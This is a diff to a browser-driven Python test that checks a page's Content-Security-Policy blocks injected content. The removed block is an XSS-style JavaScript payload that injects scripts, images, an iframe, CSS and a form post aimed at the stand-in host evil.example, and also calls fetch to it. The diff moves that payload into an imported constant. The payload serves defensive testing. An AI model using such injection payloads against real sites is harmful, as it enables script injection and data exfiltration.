@@ -13,7 +13,7 @@ from emitter.decisions.ledger_entries import ResolvedDecision
 from emitter.models import OPEN_HATCHES
 from emitter.stores import MemoryStore
 from emitter.testing.sample_moments import HOSTILE_MOMENTS, fill_every_slot, make_moment
-from tests.web.chromium import NEEDS_CHROMIUM, Tab, chromium, expect, tab
+from tests.web.chromium import HOLES, NEEDS_CHROMIUM, Tab, chromium, expect, tab
 from tests.web.inboxes import Inbox, running
 from tests.web.test_looks import _reads_well
 
@@ -235,21 +235,10 @@ def test_the_list_is_read_by_machine(browser: Browser) -> None:
 
 def test_the_policy_is_kept_by_the_browser(full: Inbox, browser: Browser) -> None:
     """Were there a hole, what came through it could neither run, nor load, nor send, nor restyle the page."""
-    holes = """
-    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
-    add("script", {textContent: "window.ran = true"});
-    add("script", {src: "https://evil.example/x.js"});
-    add("img", {src: "https://evil.example/x.png"});
-    add("iframe", {src: "https://evil.example/"});
-    add("style", {textContent: "main { display: none }"});
-    add("form", {id: "away", method: "post", action: "https://evil.example/"});
-    document.getElementById("away").submit();
-    fetch("https://evil.example/").catch(() => 0);
-    """
     kinds = {"script-src-elem", "img-src", "frame-src", "style-src-elem", "form-action", "connect-src"}
     with tab(browser, extra_http_headers=ALICE) as shown:
         shown.page.goto(full.url)
-        shown.page.evaluate(f"() => {{ {holes} }}")
+        shown.page.evaluate(f"() => {{ {HOLES} }}")
         shown.page.locator("main").is_visible()
         while not kinds <= set(shown.violations):
             shown.page.wait_for_event("console")
